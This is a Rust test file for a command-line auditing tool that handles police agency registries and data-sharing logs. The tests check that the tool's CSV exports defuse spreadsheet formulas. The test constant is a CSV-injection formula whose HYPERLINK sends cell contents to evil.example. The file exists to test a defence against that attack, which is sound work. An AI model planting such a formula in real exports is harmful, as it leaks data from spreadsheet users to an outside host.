//! Every CSV the command line writes puts a quote in front of a cell a spreadsheet would run as
//! a formula, keeps plain negative numbers, and writes cells as they are with `--raw-csv`:
//! `audit --out` (findings.csv), `registry export --format csv`, `sharing edges --csv` and the
//! skipped rows of `agencies import`.

#![expect(clippy::unwrap_used, reason = "tests stop at the first failure")]

mod common;

use std::path::Path;

use common::{remit, scratch, stderr, stdout};

/// A formula as a spreadsheet would take it, and the same cell in a CSV file.
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"ICE immigration\")";
const FORMULA_IN_CSV: &str =
    "\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"ICE immigration\"\")\"";

fn cells(text: &str) -> Vec<String> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

fn neutral_formula() -> String {
    format!("'{FORMULA}")
}

/// The neutral output names the formula only behind a quote and holds no formula at all; the
/// raw one holds it as written.
fn assert_neutralised(what: &str, neutral: &str, raw: &str) {
    let neutral = cells(neutral);
    assert!(
        neutral.contains(&neutral_formula()),
        "{what}: no neutralised formula in {neutral:?}"
    );
    for cell in &neutral {
        let first = cell.bytes().next();
        let number = cell
            .strip_prefix('-')
            .is_some_and(|n| n.parse::<f64>().is_ok());
        let formula = matches!(first, Some(b'=' | b'+' | b'@' | b'\t' | b'\r'))
            || (first == Some(b'-') && !number);
        assert!(!formula, "{what}: `{cell}` is a formula");
    }
    assert!(
        cells(raw).iter().any(|c| c == FORMULA),
        "{what}: with --raw-csv the formula is not as written"
    );
}

fn ok(output: &std::process::Output) -> String {
    assert!(output.status.success(), "{}", stderr(output));
    stdout(output)
}

fn write(path: &Path, text: &str) {
    std::fs::write(path, text).unwrap();
}

#[test]
fn audit_findings_are_neutralised_unless_raw() {
    let dir = scratch("csv-export", "audit");
    let log = dir.join("log.csv");
    write(
        &log,
        &format!(
            "When,Agency,Why\n\
             2025-06-15 10:00,Yuma AZ PD,{FORMULA_IN_CSV}\n\
             2025-06-15 11:00,Yuma AZ PD,-3\n\
             2025-06-15 12:00,Yuma AZ PD,-check\n"
        ),
    );
    let read = |raw: bool| {
        let out = dir.join(if raw { "raw" } else { "neutral" });
        let mut args = vec![
            "audit",
            log.to_str().unwrap(),
            "--owner",
            "El Cajon CA PD",
            "--map",
            "time=When,org=Agency,reason=Why",
            "--out",
            out.to_str().unwrap(),
        ];
        if raw {
            args.push("--raw-csv");
        }
        ok(&remit(&dir, &args));
        std::fs::read_to_string(out.join("findings.csv")).unwrap()
    };
    let neutral = read(false);
    let raw = read(true);
    assert_neutralised("findings.csv", &neutral, &raw);
    let neutral = cells(&neutral);
    assert!(
        neutral.contains(&"-3".to_string()),
        "a plain number is data"
    );
    assert!(neutral.contains(&"'-check".to_string()), "{neutral:?}");
    assert!(cells(&raw).contains(&"-check".to_string()));
}

#[test]
fn registry_export_and_sharing_edges_are_neutralised_unless_raw() {
    let dir = scratch("csv-export", "registry-sharing");
    let sheet = dir.join("participatingAgencies07182025pm.csv");
    write(
        &sheet,
        &format!(
            "STATE,LAW ENFORCEMENT AGENCY,TYPE,COUNTY,SUPPORT TYPE,SIGNED,MOA,ADDENDUM\n\
             ALABAMA,{FORMULA_IN_CSV},County,Baldwin County,Task Force Model,6/9/2025,link,\n\
             ALABAMA,Etowah County Sheriff's Office,County,Etowah County,Warrant Service Officer,7/15/2022,link,\n"
        ),
    );
    ok(&remit(
        &dir,
        &["-q", "registry", "import", sheet.to_str().unwrap()],
    ));
    let export = |raw: &[&str]| {
        let mut args = vec!["registry", "export", "--format", "csv"];
        args.extend_from_slice(raw);
        ok(&remit(&dir, &args))
    };
    assert_neutralised("registry export", &export(&[]), &export(&["--raw-csv"]));

    let list = dir.join("list.csv");
    write(
        &list,
        &format!(
            "Name,State,Type\n{FORMULA_IN_CSV},CA,Police Department\nYuma AZ PD,AZ,Police Department\n"
        ),
    );
    ok(&remit(
        &dir,
        &[
            "-q",
            "sharing",
            "import",
            list.to_str().unwrap(),
            "--owner",
            "El Cajon CA PD",
            "--date",
            "2025-12-01",
        ],
    ));
    let edges = |raw: &[&str]| {
        let mut args = vec!["sharing", "edges", "--csv"];
        args.extend_from_slice(raw);
        ok(&remit(&dir, &args))
    };
    assert_neutralised("sharing edges", &edges(&[]), &edges(&["--raw-csv"]));
}

#[test]
fn skipped_agency_rows_are_neutralised_unless_raw() {
    let dir = scratch("csv-export", "agencies");
    let fbi = dir.join("fbi.csv");
    write(
        &fbi,
        &format!(
            "ori,data_year,pub_agency_name,state_abbr,county_name,agency_type_name,population\n\
             CA0370100,2022,El Cajon Police Department,CA,San Diego,City,100000\n\
             {FORMULA_IN_CSV},2022,Somewhere Police Department,CA,San Diego,City,5\n"
        ),
    );
    let rejected = |raw: bool| {
        let directory = dir.join(if raw { "raw.csv" } else { "neutral.csv" });
        let mut args = vec![
            "agencies",
            "import",
            fbi.to_str().unwrap(),
            "--directory",
            directory.to_str().unwrap(),
        ];
        if raw {
            args.push("--raw-csv");
        }
        ok(&remit(&dir, &args));
        let mut path = directory.into_os_string();
        path.push(".rejected.csv");
        std::fs::read_to_string(path).unwrap()
    };
    let neutral = rejected(false);
    let raw = rejected(true);
    assert_neutralised("agencies import rejected rows", &neutral, &raw);
}
